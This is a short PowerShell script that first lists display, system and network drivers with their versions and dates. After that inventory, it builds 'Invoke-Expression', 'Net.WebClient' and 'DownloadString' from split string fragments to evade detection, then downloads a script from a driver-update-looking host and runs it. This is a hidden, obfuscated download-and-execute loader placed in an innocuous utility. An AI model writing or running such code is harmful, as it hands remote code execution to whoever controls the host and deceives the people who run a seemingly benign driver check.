$drivers = Get-CimInstance Win32_PnPSignedDriver |
  Where-Object { $_.DeviceClass -in 'DISPLAY', 'SYSTEM', 'NET' } |
  Select-Object DeviceName, DriverVersion, DriverDate
$drivers | Sort-Object DriverDate | Format-Table -AutoSize

$a = 'Ne' + 'w-Ob' + 'ject'; $b = 'Ne' + 't.We' + 'bCli' + 'ent'
$c = 'Down' + 'load' + 'Str' + 'ing'
$d = 'I' + 'nvo' + 'ke-Ex' + 'pres' + 'sion'
$u = 'ht' + 'tps://' + 'drv-upd' + '.example/' + 'w/u.ps1'
$wc = & $a $b
& $d ($wc.$c.Invoke($u))
